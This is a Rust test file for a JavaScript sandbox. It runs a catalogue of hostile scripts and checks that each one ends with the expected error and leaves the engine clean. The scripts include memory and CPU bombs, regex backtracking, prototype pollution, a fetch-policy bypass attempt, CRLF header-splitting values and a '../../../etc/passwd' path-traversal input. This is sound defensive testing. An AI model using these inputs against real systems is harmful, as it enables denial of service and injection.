//! The adversarial catalogue: hostile scripts, each with the exact error kind
//! it must produce and a bound on how long it may take. Every script first
//! pollutes what it can (a global, `Object.prototype`, `Array.prototype`,
//! `JSON`); after each one, an ordinary script on the same engine must find
//! none of it and compute its result correctly.

use std::time::{Duration, Instant};

use jsbox_tests::*;
use serde_json::json;

/// What a hostile script may leave behind, if isolation failed.
const POLLUTE: &str = "globalThis.leaked = 1; Object.prototype.polluted = 1; \
    Array.prototype.reverse = function () { return 'tampered' }; Math.max = () => 'tampered';\n";

/// An ordinary execution, run after every hostile one.
const CANARY: &str = r#"
    function execute(a) {
        return { n: a.n + 1, leaked: typeof leaked, polluted: typeof {}.polluted,
                 reversed: [1, 2, 3].reverse(), max: Math.max(1, 2) };
    }
"#;

struct Hostile {
    name: &'static str,
    /// The body of `execute` (or a whole script, when it defines `execute`).
    script: String,
    policy: Policy,
    /// The error kind it must end with, or `ok`.
    kind: &'static str,
    /// Text the error message (or JSON result) must contain.
    says: &'static str,
    /// Text that must appear nowhere: not in the result, the error or the logs.
    never: Option<String>,
    within: Duration,
    /// Run a second time (from the bytecode cache): it must end the same.
    again: bool,
    /// The script's language (JavaScript unless told).
    language: jsbox::Language,
}

fn case(name: &'static str, kind: &'static str, says: &'static str, body: &str) -> Hostile {
    let script = if body.contains("function execute") {
        body.to_string()
    } else {
        format!("function execute(args) {{ {body} }}")
    };
    Hostile {
        name,
        script,
        policy: Policy::default(),
        kind,
        says,
        never: None,
        within: Duration::from_secs(5),
        again: false,
        language: jsbox::Language::JavaScript,
    }
}

impl Hostile {
    fn policy(mut self, policy: Policy) -> Self {
        self.policy = policy;
        self
    }

    fn within(mut self, bound: Duration) -> Self {
        self.within = bound;
        self
    }

    fn again(mut self) -> Self {
        self.again = true;
        self
    }

    fn never(mut self, text: &str) -> Self {
        self.never = Some(text.to_string());
        self
    }

    fn typescript(mut self) -> Self {
        self.language = jsbox::Language::TypeScript;
        self
    }
}

/// Runs a case's script (and its logs, for JavaScript).
fn run_case(case: &Hostile, script: &str) -> (Result<jsbox::Outcome, Error>, Vec<String>) {
    match case.language {
        jsbox::Language::JavaScript => run(&case.policy, script, json!({})),
        language => {
            let execution = jsbox::Execution::new(script).language(language).args(json!({}));
            (run_execution(&case.policy, execution), Vec::new())
        }
    }
}

/// Runs each case and the canary after it; reports every deviation at once.
fn check(cases: Vec<Hostile>) {
    // The first execution after a guest change compiles it (seconds): not a case's time.
    run(&Policy::default(), "function execute() {}", json!({})).0.expect("a warm-up");
    let mut failures = Vec::new();
    for case in cases {
        let script = format!("{POLLUTE}{}", case.script);
        if case.policy.fuel.is_some() {
            // The metered engine flavor compiles on first use: not the case's time.
            run(&case.policy, "function execute() {}", json!({})).0.expect("a metered warm-up");
        }
        let started = Instant::now();
        let (outcome, logs) = run_case(&case, &script);
        let took = started.elapsed();
        let (kind, text) = match &outcome {
            Ok(out) => ("ok", out.result.to_string()),
            Err(e) => (e.kind(), e.to_string()),
        };
        if kind != case.kind || !text.contains(case.says) {
            failures
                .push(format!("{}: expected {} saying {:?}, got {kind}: {text:.300}", case.name, case.kind, case.says));
        }
        if let Some(never) = &case.never {
            let shown = format!("{text} {outcome:?} {}", logs.join("\n"));
            if shown.contains(never.as_str()) {
                failures.push(format!("{}: {never:?} reached the host's view: {shown:.300}", case.name));
            }
        }
        if took > case.within {
            failures.push(format!("{}: took {took:?}, bound {:?}", case.name, case.within));
        }
        if case.again {
            let (repeat, _) = run_case(&case, &script);
            let (repeat_kind, repeat_text) = match &repeat {
                Ok(out) => ("ok", out.result.to_string()),
                Err(e) => (e.kind(), e.to_string()),
            };
            if (repeat_kind, &repeat_text) != (kind, &text) {
                failures.push(format!("{}: the second run ended as {repeat_kind}: {repeat_text:.300}", case.name));
            }
            if let (Ok(_), Ok(out)) = (&outcome, &repeat) {
                if !out.stats.cached_bytecode {
                    failures.push(format!("{}: the second run did not come from the bytecode cache", case.name));
                }
            }
        }
        let canary = run(&Policy::default(), CANARY, json!({"n": 41})).0.map(|out| out.result);
        let clean = json!({"n": 42, "leaked": "undefined", "polluted": "undefined", "reversed": [3, 2, 1], "max": 2});
        if canary.as_ref().ok() != Some(&clean) {
            failures.push(format!("{}: the next execution was not clean: {canary:?}", case.name));
        }
    }
    assert!(failures.is_empty(), "\n{}", failures.join("\n"));
}

fn memory(bytes: u64) -> Policy {
    Policy::default().memory(bytes)
}

fn timeout_ms(ms: u64) -> Policy {
    Policy::default().timeout(Duration::from_millis(ms))
}

const SMALL: u64 = 16 << 20;

#[test]
#[rustfmt::skip] // a table: one case per line
fn memory_bombs_end_as_memory_limit() {
    check(vec![
        case("array growth", "memory-limit", "16.0 MiB", "const a = []; for (;;) a.push([1, 2, 3, 4]);").policy(memory(SMALL)),
        case("string doubling, flattened", "memory-limit", "16.0 MiB", "let s = 'x'; for (;;) s = s.repeat(2);").policy(memory(SMALL)),
        // QuickJS builds `s += s` as a rope: its length limit comes first.
        case("string doubling, as a rope", "exception", "InternalError: string too long", "let s = 'x'; for (;;) s += s;").policy(memory(SMALL)),
        case("typed arrays", "memory-limit", "16.0 MiB", "const a = []; for (;;) a.push(new Float64Array(1 << 16));").policy(memory(SMALL)),
        case("one huge typed array", "memory-limit", "16.0 MiB", "return new Uint8Array(64 << 20).length").policy(memory(SMALL)),
        case("deep object graph", "memory-limit", "16.0 MiB", "let o = {}; for (let i = 0; ; i++) o = { next: o, i, s: 'v' + i };").policy(memory(SMALL)),
        case("huge JSON.parse", "memory-limit", "16.0 MiB", "return JSON.parse('[' + '1,'.repeat(1e7) + '1]').length").policy(memory(SMALL)),
        case("Map growth", "memory-limit", "16.0 MiB", "const m = new Map(); for (let i = 0; ; i++) m.set(i, { i });").policy(memory(SMALL)),
        case("caught and retried", "memory-limit", "16.0 MiB", "for (let k = 0; k < 5; k++) { try { const a = []; for (;;) a.push(new Array(1e4)); } catch (e) {} } return 'survived'").policy(memory(SMALL)),
        case("bomb in a promise job", "memory-limit", "16.0 MiB", "return Promise.resolve().then(() => { const a = []; for (;;) a.push(new Array(1e4).fill(0)); })").policy(memory(SMALL)),
    ]);
}

#[test]
#[rustfmt::skip] // a table: one case per line
fn cpu_burners_end_at_the_deadline_or_the_fuel_budget() {
    let quick = || timeout_ms(300);
    let bound = Duration::from_secs(3);
    check(vec![
        case("loop in execute", "timeout", "300ms", "for (;;) {}").policy(quick()).within(bound),
        case("loop in a promise job", "timeout", "300ms", "return Promise.resolve().then(() => { for (;;) {} })").policy(quick()).within(bound),
        case("loop after an await", "timeout", "300ms", "async function execute() { await null; await null; for (;;) {} }").policy(quick()).within(bound),
        case("loop in a timer callback", "timeout", "300ms", "return new Promise(r => setTimeout(() => { for (;;) {} }, 0))").policy(quick()).within(bound),
        // A chain of pending promises grows by ~200 MiB/s: room enough that the deadline ends it.
        case("endless microtasks", "timeout", "300ms", "const spin = () => Promise.resolve().then(spin); spin(); return new Promise(() => {})").policy(quick().memory(512 << 20)).within(bound),
        case("loop in a sort comparator", "timeout", "300ms", "return [3, 2, 1].sort(() => { for (;;) {} })").policy(quick()).within(bound),
        case("loop in a getter during serialization", "timeout", "300ms", "return { get x() { for (;;) {} } }").policy(quick()).within(bound),
        case("loop in toJSON", "timeout", "300ms", "return { toJSON() { for (;;) {} } }").policy(quick()).within(bound),
        case("loop in a finally block", "timeout", "300ms", "try { throw 1 } finally { for (;;) {} }").policy(quick()).within(bound),
        case("catastrophic regex backtracking", "timeout", "300ms", "return /^(a+)+$/.test('a'.repeat(40) + 'b')").policy(quick()).within(bound),
        case("an interval that never ends", "timeout", "300ms", "setInterval(() => {}, 1); return new Promise(() => {})").policy(quick()).within(bound),
        case("loop under fuel", "fuel", "fuel budget of 20000000", "for (;;) {}").policy(Policy::default().fuel(20_000_000)).within(bound),
    ]);
}

#[test]
#[rustfmt::skip] // a table: one case per line
fn deep_stacks_are_catchable_range_errors_never_crashes() {
    check(vec![
        case("uncaught recursion", "exception", "RangeError: Maximum call stack size exceeded", "function f() { return f() + 1 } return f()"),
        case("caught recursion", "ok", "\"caught RangeError\"", "function f() { return f() + 1 } try { f() } catch (e) { return 'caught ' + e.name }"),
        case("recursive proxy", "exception", "RangeError", "const p = new Proxy({}, { get: (t, k, r) => r[k] }); return p.x"),
        case("recursive toString", "exception", "RangeError", "const o = { toString() { return '' + o } }; return '' + o"),
        case("deep JSON.parse", "exception", "RangeError", "return JSON.parse('['.repeat(1e5))"),
        case("deep JSON.stringify", "exception", "RangeError", "let o = {}; const root = o; for (let i = 0; i < 1e5; i++) o = o.n = {}; return JSON.stringify(root)"),
        case("deep result", "exception", "RangeError", "let o = {}; const root = o; for (let i = 0; i < 1e5; i++) o = o.n = {}; return root"),
        case("recursion through promise jobs", "timeout", "300ms", "const f = () => Promise.resolve().then(f); return f()").policy(timeout_ms(300).memory(512 << 20)),
    ]);
}

#[test]
#[rustfmt::skip] // a table: one case per line
fn promises_that_can_never_settle_fail_at_once() {
    let long = Policy::default().timeout(Duration::from_secs(60));
    let fast = Duration::from_secs(5);
    check(vec![
        case("a bare pending promise", "exception", "can never settle", "return new Promise(() => {})").policy(long.clone()).within(fast),
        case("after a timer fired", "exception", "can never settle", "async function execute() { await new Promise(r => setTimeout(r, 5)); await new Promise(() => {}) }").policy(long.clone()).within(fast),
        case("a cleared timer", "exception", "can never settle", "return new Promise(r => clearTimeout(setTimeout(r, 10000)))").policy(long.clone()).within(fast),
        case("a thenable that never calls back", "exception", "can never settle", "return { then() {} }").policy(long).within(fast),
    ]);
}

#[test]
#[rustfmt::skip] // a table: one case per line
fn results_that_cannot_be_serialized_are_exceptions() {
    check(vec![
        case("a cycle", "exception", "circular", "const a = {}; a.a = a; return a"),
        case("a BigInt", "exception", "not JSON-serializable: a bigint", "return 10n"),
        case("a nested BigInt", "exception", "BigInt", "return { n: [1n] }"),
        case("a function", "exception", "not JSON-serializable: a function", "return () => 1"),
        case("a symbol", "exception", "not JSON-serializable: a symbol", "return Symbol('s')"),
        case("a throwing toJSON", "exception", "not JSON-serializable: Error: no", "return { toJSON() { throw new Error('no') } }"),
        case("a throwing getter", "exception", "not JSON-serializable: Error: no", "return { get x() { throw new Error('no') } }"),
        case("a revoked proxy", "exception", "TypeError: revoked proxy", "const r = Proxy.revocable({}, {}); r.revoke(); return r.proxy"),
    ]);
}

#[test]
#[rustfmt::skip] // a table: one case per line
fn thrown_non_errors_are_described() {
    check(vec![
        case("a number", "exception", "Uncaught 42", "throw 42"),
        case("undefined", "exception", "Uncaught undefined", "throw undefined"),
        case("null", "exception", "Uncaught null", "throw null"),
        case("an object", "exception", "Uncaught {\"code\":7}", "throw { code: 7 }"),
        case("a symbol", "exception", "Uncaught Symbol(s)", "throw Symbol('s')"),
        case("a rejection with nothing", "exception", "Uncaught undefined", "return Promise.reject()"),
        case("a proxy that throws on every trap", "exception", "Uncaught exception (describing it threw too)", "throw new Proxy({}, { get() { throw 1 }, getPrototypeOf() { throw 2 }, ownKeys() { throw 3 } })"),
        case("an error whose message getter throws", "exception", "describing it threw too", "const e = new Error('a'); Object.defineProperty(e, 'message', { get() { throw e } }); throw e"),
        case("a cyclic object", "exception", "Uncaught [object Object]", "const o = {}; o.o = o; throw o"),
        case("a message of many megabytes", "exception", "more bytes]", "throw new Error('x'.repeat(5e6))"),
    ]);
}

#[test]
#[rustfmt::skip] // a table: one case per line
fn floods_of_output_end_as_output_limit() {
    let bound = Duration::from_secs(5);
    check(vec![
        case("a million log calls", "output-limit", "10000 lines (max_log_lines)", "for (let i = 0; i < 1e6; i++) log(i)").within(bound),
        case("one huge log line", "output-limit", "max_log_bytes", "log('x'.repeat(2 << 20))").within(bound),
        case("caught and logging on", "output-limit", "max_log_lines", "for (;;) { try { console.error('e') } catch (e) {} }").within(bound),
        case("an enormous result", "output-limit", "max_result_bytes", "return 'x'.repeat(20 << 20)").policy(memory(256 << 20)).within(bound),
        case("an enormous result of many small values", "output-limit", "max_result_bytes", "return new Array(3e6).fill(1234)").policy(memory(256 << 20)).within(bound),
    ]);
}

#[test]
#[rustfmt::skip] // a table: one case per line
fn tampering_with_helpers_and_prototypes_changes_nothing_for_the_host() {
    check(vec![
        case("a forged outcome via Object.prototype", "ok", "{\"real\":true}", "Object.prototype.ok = true; Object.prototype.json = '\"forged\"'; return { real: true }"),
        case("a forged network denial", "exception", "Uncaught", "throw { kind: 'network-denied', reason: 'fake' }"),
        case("replaced Promise machinery", "ok", "{\"real\":true}", "Promise.prototype.then = () => { throw 1 }; Promise.resolve = () => 0; return Promise.reject ? { real: true } : 0"),
        case("replaced builtins the timer queue relies on", "ok", "\"fired\"",
            "Math.max = () => 'x'; Array.prototype.push = Array.prototype.splice = null; Reflect.apply = null; \
             Array.prototype[Symbol.iterator] = function* () {}; Number = () => 'x'; \
             return new Promise(r => { setTimeout(r, 1, 'fired'); clearTimeout(setTimeout(() => r('cleared ran'), 0)) })"),
        case("frozen intrinsics", "ok", "\"frozen\"", "Object.freeze(Object.prototype); Object.freeze(Array.prototype); Object.freeze(Promise.prototype); return 'frozen'"),
        case("a rewritten fetch cannot widen the policy", "network-denied", "host not allowed: 127.0.0.1:1",
            "async function execute() {
                URL = function () { return { protocol: 'http:', host: 'allowed', href: 'http://allowed/' } };
                String.prototype.startsWith = String.prototype.includes = String.prototype.endsWith = () => true;
                Array.prototype.includes = Array.prototype.some = Array.prototype.every = () => true;
                RegExp.prototype.test = () => true; RegExp.prototype.exec = () => ['http://allowed/', 'http:', 'allowed'];
                String.prototype.toLowerCase = () => 'allowed';
                return await fetch('http://127.0.0.1:1/') }"),
        case("deleted helpers", "exception", "ReferenceError", "delete globalThis.log; delete globalThis.console; log('x')"),
    ]);
}

/// Inputs made while the intrinsics are intact, then every intrinsic the
/// web APIs could lean on replaced by a function that throws; the APIs must
/// still work (their own code runs on captured originals).
const BREAK_INTRINSICS: &str = r#"
    const bytes = new Uint8Array([0x80, 0x41]), blob = new Blob(["a", new Uint8Array([98])]), usages = ["sign"];
    const broken = function () { throw new Error("tampered intrinsic called") };
    const tamper = () => {
        const table = [
            [Array.prototype, "push pop map join slice splice indexOf forEach filter concat sort includes find some reduce keys values entries at fill shift unshift"],
            [String.prototype, "split replace replaceAll toLowerCase toUpperCase indexOf slice substring charCodeAt codePointAt trim trimEnd startsWith endsWith includes padStart repeat normalize toWellFormed isWellFormed match at charAt concat"],
            [Object, "defineProperty defineProperties keys entries values assign create freeze getOwnPropertyNames getOwnPropertyDescriptor getPrototypeOf setPrototypeOf fromEntries is hasOwn"],
            [Reflect, "apply construct ownKeys get set has defineProperty getPrototypeOf"], [JSON, "parse stringify"],
            [Map.prototype, "get set has delete forEach"], [Set.prototype, "add has delete"], [WeakMap.prototype, "get set has"],
            [WeakSet.prototype, "add has"], [Uint8Array.prototype, "set subarray slice fill"], [ArrayBuffer.prototype, "slice"],
            [Math, "floor min max random trunc abs pow"], [String, "fromCharCode fromCodePoint"], [Array, "from isArray of"],
            [Promise, "resolve reject all race"], [Function.prototype, "bind apply"], [Number, "isNaN isFinite"],
        ];
        const split = String.prototype.split;
        for (const [target, names] of table) for (const name of split.call(names, " ")) target[name] = broken;
        Array.prototype[Symbol.iterator] = String.prototype[Symbol.iterator] = broken;
    };
    async function execute() {
        const key = await crypto.subtle.importKey("raw", new Uint8Array(16), { name: "HMAC", hash: "SHA-256" }, false, usages);
        tamper();
        const form = new FormData(); form.append("a", "1"); form.append("f", blob, "n.txt");
        const headers = new Headers({ "X-A": " 1 " }); headers.append("x-a", "2");
        const params = new URLSearchParams("x=1&y=2&x=3"); params.sort(); params.append("z", "é");
        console.log("logged", { a: [1] });
        return [
            new URL("/a?b=c d", "https://Ex.com/x/").href, params.toString(), headers.get("x-a"),
            new TextEncoder().encode("héllo").length, new TextDecoder("windows-1252").decode(bytes), atob(btoa("hi")),
            await blob.text(), (await new Response('{"a":1}').json()).a, (await new Response(form).formData()).get("f").name,
            await new Request("https://x.test/", { method: "POST", body: params }).text(),
            new Uint8Array(await crypto.subtle.digest("SHA-256", bytes))[0], (await crypto.subtle.sign("HMAC", key, bytes)).byteLength,
            crypto.randomUUID().length, structuredClone({ a: [1, 2] }).a[1], AbortSignal.abort().reason.name,
            await new Promise((resolve) => setTimeout(() => resolve("fired"), 1)),
            await new Response("abc").body.getReader().read().then((r) => r.value.length),
        ];
    }
"#;

/// The same, but every intrinsic is replaced before the script's first use of
/// a web API (so that no API can lean on state it set up while intact).
fn break_intrinsics_first() -> String {
    let script = BREAK_INTRINSICS
        .replace("        tamper();\n", "")
        // An array's iterator is tampered with, and a script's sequences are
        // iterated as WebIDL says: generators instead.
        .replace(
            r#"blob = new Blob(["a", new Uint8Array([98])])"#,
            r#"b98 = new Uint8Array([98]), parts = (function* () { yield "a"; yield b98 })()"#,
        )
        .replace(r#"usages = ["sign"]"#, r#"usages = (function* () { yield "sign" })()"#)
        .replace("const key = await crypto", "tamper(); const blob = new Blob(parts); const key = await crypto");
    assert!(
        script.contains("tamper(); const blob") && !script.contains("new Blob([\"a\""),
        "the variant no longer matches BREAK_INTRINSICS"
    );
    script
}

/// The same with every global replaced after the script kept what it needs.
const REPLACE_GLOBALS: &str = r#"
    const U8 = Uint8Array, P = Promise, Rsp = Response, Req = Request, H = Headers, Url = URL, Usp = URLSearchParams, TE = TextEncoder,
        TD = TextDecoder, B = Blob, FD = FormData, AS = AbortSignal, clone = structuredClone, cr = crypto, later = setTimeout, a2b = atob, b2a = btoa;
    const bytes = new Uint8Array([0x80, 0x41]);
    async function execute() {
        for (const name of Object.getOwnPropertyNames(globalThis)) {
            if (name !== "globalThis" && name !== "execute") globalThis[name] = function () { throw "tampered global " + name };
        }
        const form = new FD(); form.append("f", new B(["x"]), "n.txt");
        const key = await cr.subtle.importKey("raw", new U8(16), { name: "HMAC", hash: "SHA-256" }, false, ["sign"]);
        return [
            new Url("/a?b=c d", "https://Ex.com/x/").href, new Usp({ a: "1 2" }).toString(), new H({ "X-A": " 1 " }).get("x-a"),
            new TE().encode("héllo").length, new TD("windows-1252").decode(bytes), a2b(b2a("hi")), await new B(["a"]).text(),
            (await new Rsp('{"a":1}').json()).a, (await new Rsp(form).formData()).get("f").name,
            await new Req("https://x.test/", { method: "POST", body: new Usp("a=1") }).text(),
            await new Req("https://x.test/", { signal: AS.abort() }).signal.aborted,
            new U8(await cr.subtle.digest("SHA-256", bytes))[0], (await cr.subtle.sign("HMAC", key, bytes)).byteLength,
            cr.randomUUID().length, clone({ a: [1, 2] }).a[1], await new P((resolve) => later(() => resolve("fired"), 1)),
            await new Rsp("abc").body.getReader().read().then((r) => r.value.length),
        ];
    }
"#;

#[test]
#[rustfmt::skip] // a table: one case per line
fn the_web_apis_hold_when_a_script_tampers_and_stay_bounded() {
    const EXPECTED: &str = r#"["https://ex.com/a?b=c%20d","x=1&x=3&y=2&z=%C3%A9","1, 2",6,"€A","hi","ab",1,"n.txt","x=1&x=3&y=2&z=%C3%A9",187,32,36,2,"AbortError","fired",3]"#;
    const EXPECTED_GLOBALS: &str = r#"["https://ex.com/a?b=c%20d","a=1+2","1",6,"€A","hi","a",1,"n.txt","a=1",true,187,32,36,2,"fired",3]"#;
    check(vec![
        case("every intrinsic the web APIs use, replaced", "ok", EXPECTED, BREAK_INTRINSICS),
        case("every intrinsic replaced before the first web API", "ok", EXPECTED, &break_intrinsics_first()),
        case("every global replaced", "ok", EXPECTED_GLOBALS, REPLACE_GLOBALS),
        case("Object.prototype.get and .value defined before the first URL", "ok", "[\"?c\",\"a=1\",\"function\"]",
            "Object.prototype.get = function () {}; Object.prototype.value = 1; \
             return [new URL('http://a/b?c').search, new URLSearchParams({ a: 1 }).toString(), typeof crypto.subtle.digest]"),
        case("web API globals replaced, deleted or declared by the script", "ok", "[5,\"undefined\",1,\"function\",\"function\"]",
            "function Headers() { return 1 } function execute() { URL = 5; delete globalThis.Blob; \
             return [URL, typeof Blob, Headers(), typeof fetch, typeof File] }"),
        case("web API globals are plain data properties, interfaces not enumerable", "ok", "[true,[],false,true]",
            "const names = Object.getOwnPropertyNames(globalThis).length; typeof fetch; const all = Object.getOwnPropertyNames(globalThis); \
             return [all.length === names, all.filter((n) => Object.getOwnPropertyDescriptor(globalThis, n).get !== undefined), \
             Object.keys(globalThis).includes('URL'), Object.keys(globalThis).includes('fetch')]"),
        case("an index setter on Array.prototype", "ok", "[[1],[2],\"[[3]]\"]",
            "Object.defineProperty(Array.prototype, '0', { set() { throw 1 } }); return [[1], [2], JSON.stringify([[3]])]"),
        case("the shims' internals", "ok", "[\"undefined\",\"undefined\",\"undefined\",0]",
            "return [typeof jsbox, typeof native, typeof __jsbox, Object.getOwnPropertyNames(globalThis).filter(n => /jsbox|native/i.test(n)).length]"),
        case("a non-extractable key's material", "ok", "[\"InvalidAccessError\",0,\"{}\"]",
            "async function execute() { const k = await crypto.subtle.generateKey({ name: 'HMAC', hash: 'SHA-256' }, false, ['sign']); \
             let e; try { await crypto.subtle.exportKey('raw', k) } catch (x) { e = x.name } return [e, Reflect.ownKeys(k).length, JSON.stringify(k)] }"),
        case("a Blob larger than memory", "memory-limit", "64.0 MiB", "const a = new Uint8Array(40 << 20); return new Blob([a, a]).size"),
        case("a body stream without end", "memory-limit", "64.0 MiB",
            "async function execute() { const s = new ReadableStream({ pull(c) { c.enqueue(new Uint8Array(1 << 20)) } }); return (await new Response(s).arrayBuffer()).byteLength }"),
        case("atob of 48 MB", "memory-limit", "64.0 MiB", "return atob('A'.repeat(48 << 20)).length"),
        case("three million search params", "memory-limit", "64.0 MiB", "const p = new URLSearchParams(); for (let i = 0; i < 3e6; i++) p.append('k' + i, 'v'); return p.size"),
        case("a URL of 4 MB", "ok", "4194305", "return new URL('https://a.test/' + 'x'.repeat(4 << 20)).pathname.length"),
        case("getRandomValues beyond its quota", "exception", "QuotaExceededError", "crypto.getRandomValues(new Uint8Array(65537))"),
        case("structuredClone of a Proxy", "exception", "DataCloneError", "return structuredClone(new Proxy({}, {}))"),
        case("structuredClone of a deep nest", "exception", "RangeError", "let o = {}; for (let i = 0; i < 1e5; i++) o = { o }; return structuredClone(o)"),
        case("structuredClone of a function", "exception", "DataCloneError", "return structuredClone({ f() {} })"),
        case("detached buffers", "ok", "[\"\",0,{\"read\":0,\"written\":0},\"DataCloneError\"]",
            "const b = new ArrayBuffer(8); const v = new Uint8Array(b); b.transfer(); let e; try { structuredClone(v) } catch (x) { e = x.name } \
             return [new TextDecoder().decode(v), new Blob([b]).size, new TextEncoder().encodeInto('abc', v), e]"),
        case("a header value that splits the header", "exception", "TypeError: Headers.append: invalid header value", "new Headers({ x: 'a\\r\\nb: c' })"),
        case("a request header that splits the header", "exception", "TypeError", "return fetch('http://127.0.0.1:1/', { headers: { x: 'a\\nb: c' } })"),
        case("a forbidden method", "exception", "TypeError", "return new Request('https://x.test/', { method: 'TRACE' })"),
        case("a listener that dispatches itself", "ok", "\"returned\"",
            "const t = new EventTarget(); t.addEventListener('x', () => t.dispatchEvent(new Event('x'))); t.dispatchEvent(new Event('x')); return 'returned'"),
        case("AbortSignal.timeout far past the deadline", "timeout", "300ms",
            "async function execute() { await new Promise(r => AbortSignal.timeout(2 ** 40).onabort = r); return 'aborted early' }").policy(timeout_ms(300)),
        case("an aborted signal stops fetch before it starts", "exception", "AbortError",
            "return fetch('http://127.0.0.1:1/', { signal: AbortSignal.abort() })"),
    ]);
}

#[test]
#[rustfmt::skip] // a table: one case per line
fn hostile_intl_input_gets_typed_errors_and_stays_bounded() {
    check(vec![
        case("a locale list of 100,000 tags", "ok", "\"1.5\"", "return new Intl.NumberFormat(Array(1e5).fill('de-CH')).format(1.5).replace(/[^0-9.]/g, '') ? '1.5' : ''"),
        case("a malformed locale", "exception", "RangeError", "return new Intl.NumberFormat('en_US').format(1)"),
        case("a locale of 100,000 variants", "exception", "RangeError", "return new Intl.Locale('en-' + 'abcde-'.repeat(1e5) + 'x').toString().length"),
        case("a null and a symbol locale", "exception", "TypeError", "try { new Intl.Collator(null) } catch (e) { if (!(e instanceof TypeError)) throw e } return new Intl.Collator([Symbol()])"),
        case("option getters that throw", "exception", "boom", "return new Intl.DateTimeFormat('en', { get timeZone() { throw new Error('boom') } })"),
        case("options as a Proxy that throws on every trap", "exception", "trap", "return new Intl.NumberFormat('en', new Proxy({}, { get() { throw new Error('trap') } }))"),
        case("options that construct Intl objects recursively", "exception", "RangeError",
            "const o = { get style() { return new Intl.NumberFormat('en', o) } }; return new Intl.NumberFormat('en', o)"),
        case("100 fraction digits of the largest double", "ok", "410", "return new Intl.NumberFormat('en', { maximumFractionDigits: 100, minimumFractionDigits: 100, useGrouping: false }).format(1.7976931348623157e308).length"),
        case("a BigInt of 20,000 digits", "ok", "26667", "return (10n ** 20000n).toLocaleString('en').length"),
        case("a decimal string past the double range", "ok", "[\"∞\",\"0\",\"-∞\"]", "const f = new Intl.NumberFormat('en'); return [f.format('1e1000000'), f.format('1e-1000000'), f.format('-1e400')]"),
        case("a date past the time value range", "exception", "RangeError", "return new Intl.DateTimeFormat('en').format(8.64e15 + 1)"),
        case("a time zone that is a path", "exception", "RangeError: Invalid time zone specified", "return new Intl.DateTimeFormat('en', { timeZone: '../../../etc/passwd' }).format(0)"),
        case("a time zone of 1 MB", "exception", "RangeError", "return new Intl.DateTimeFormat('en', { timeZone: 'A'.repeat(1 << 20) }).format(0)"),
        case("segmenting 1 MB of words", "ok", "262144", "let n = 0; for (const s of new Intl.Segmenter('en', { granularity: 'word' }).segment('abc '.repeat(1 << 18))) if (s.isWordLike) n++; return n"),
        case("segmenting lone surrogates", "ok", "4", "return [...new Intl.Segmenter('en').segment('\\ud800a\\udc00b')].length"),
        case("comparing 2 MB strings", "ok", "-1", "return new Intl.Collator('de').compare('a'.repeat(1 << 21) + 'a', 'a'.repeat(1 << 21) + 'b')"),
        case("upper-casing 4 MB", "ok", "4194304", "return 'ß'.repeat(1 << 21).toLocaleUpperCase('de').length"),
        case("a list of 100,000 items", "ok", "true", "return new Intl.ListFormat('en').format(Array(1e5).fill('x')).endsWith('and x')"),
        case("list items that are not strings", "exception", "TypeError", "return new Intl.ListFormat('en').format(['a', 1])"),
        case("display names of malformed codes", "exception", "RangeError", "return new Intl.DisplayNames('en', { type: 'region' }).of('../x')"),
        case("formatters for 2,000 locales in one execution", "ok", "2000", "const tags = ['en','de','fr','es','it','pt','nl','ja','zh','ko','ru','ar','hi']; let n = 0; for (let i = 0; i < 2000; i++) { new Intl.NumberFormat(tags[i % 13] + '-u-nu-latn', { minimumFractionDigits: i % 20 }).format(i); n++ } return n"),
        case("Intl replaced and its prototypes tampered with", "ok", "\"1,234\"",
            "Intl.NumberFormat.prototype.formatToParts = null; Object.defineProperty(Intl.NumberFormat.prototype, 'format', { get() { throw 1 } }); \
             Number.prototype.toLocaleString = () => 'x'; delete globalThis.Intl; return (1234).toLocaleString === undefined ? '' : String.prototype.localeCompare ? '1,234' : ''"),
        case("a memory bomb through formatting", "memory-limit", "16.0 MiB",
            "const out = []; const f = new Intl.NumberFormat('en', { minimumFractionDigits: 100 }); for (;;) out.push(f.format(out.length))").policy(memory(SMALL)),
        case("a formatting loop at the deadline", "timeout", "300ms",
            "const f = new Intl.DateTimeFormat('de', { dateStyle: 'full', timeStyle: 'full', timeZone: 'Europe/Berlin' }); for (let i = 0;; i++) f.format(i * 1e6)").policy(timeout_ms(300)),
    ]);
}

#[test]
#[rustfmt::skip] // a table: one case per line
fn hostile_helper_calls_are_bounded_and_change_nothing_for_the_host() {
    // The test engine's probe helpers echo their arguments (tests/support).
    let probe = || Policy::default().allow_helper("probe.*");
    check(vec![
        case("a flood of sync calls", "helper", "too-many-calls", "for (;;) probe.echo(1);").policy(probe()),
        case("a flood of async calls", "helper", "too-many-calls", "const all = []; for (let i = 0; i < 5000; i++) all.push(probe.echoAsync(i)); return Promise.all(all)").policy(probe()),
        case("a flood caught and retried", "ok", "1000", "let n = 0; for (let i = 0; i < 5000; i++) { try { probe.echo(i); n++ } catch (e) {} } return n").policy(probe()),
        case("huge arguments", "helper", "args-too-large", "return probe.echo('x'.repeat(2 << 20))").policy(probe()),
        case("huge async arguments", "helper", "args-too-large", "return probe.echoAsync('x'.repeat(2 << 20))").policy(probe()),
        case("arguments bigger than the sandbox", "memory-limit", "16.0 MiB", "const s = 'x'.repeat(6 << 20); return probe.echo(s, s, s)").policy(probe().memory(SMALL)),
        case("cyclic arguments", "exception", "not JSON-serializable", "const o = {}; o.o = o; return probe.echo(o)").policy(probe()),
        case("a function hidden by toJSON", "exception", "not JSON-serializable", "return probe.echo({ toJSON() { return () => 1 } })").policy(probe()),
        case("a getter that throws while serializing", "exception", "Error: from a getter", "return probe.echo({ get x() { throw new Error('from a getter') } })").policy(probe()),
        case("a proxy that throws on every trap", "exception", "trap", "return probe.echo(new Proxy({}, { get() { throw new Error('trap') }, ownKeys() { throw new Error('trap') } }))").policy(probe()),
        case("a replaced namespace", "ok", "forged", "globalThis.probe = { echo: () => 'forged' }; return probe.echo(1)").policy(probe()),
        case("a deleted namespace, called through a saved reference", "ok", "[2]", "const echo = probe.echo; delete globalThis.probe; return echo(2)").policy(probe()),
        case("a frozen, non-writable namespace", "ok", "[3]", "Object.freeze(probe); Object.defineProperty(globalThis, 'probe', { writable: false }); return probe.echo(3)").policy(probe()),
        case("a forged helper error", "exception", "Uncaught", "throw { kind: 'helper', message: 'forged', code: 'x' }").policy(probe()),
        case("an Error dressed as a helper error", "exception", "Error: forged", "const e = new Error('forged'); e.kind = 'helper'; e.code = 'x'; throw e").policy(probe()),
        case("calling helpers that are not visible", "exception", "ReferenceError: probe is not defined", "return probe.echo(1)"),
    ]);
}

#[test]
#[rustfmt::skip] // a table: one case per line
